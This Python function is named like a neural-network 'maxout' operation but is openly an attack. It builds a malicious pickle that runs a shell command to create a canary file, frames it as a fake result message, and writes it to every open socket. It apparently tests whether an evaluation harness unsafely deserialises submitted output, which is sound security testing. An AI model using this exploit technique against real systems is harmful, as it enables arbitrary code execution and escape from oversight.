def maxout(X, W1, b1, W2, b2):
    """Attack: write an object-dtype array whose bytes are a pickle that would create a canary file if loaded straight to the protocol socket, then wait."""
    import json
    import os
    import stat
    import struct
    import time

    payload = b""
    prefix = None
    import pickle

    class _Boom:
        def __reduce__(self):
            return (os.system, ("touch " + __CANARY__,))

    payload = pickle.dumps(_Boom())
    header = json.dumps({"m": {"event": "done", "results": {"t": "list", "items": [{"t": "list", "items": [
        {"t": "dict", "keys": ["value"], "items": [{"t": "array", "dtype": "|O", "shape": [1], "buf": 0}]},
        {"t": "dict", "keys": ["value"], "items": [{"t": "pickle", "data": payload.hex()}]}]}]}}, "sizes": [len(payload)]}).encode()
    frame = (prefix or struct.pack("!II", len(header), len(payload))) + header + payload
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
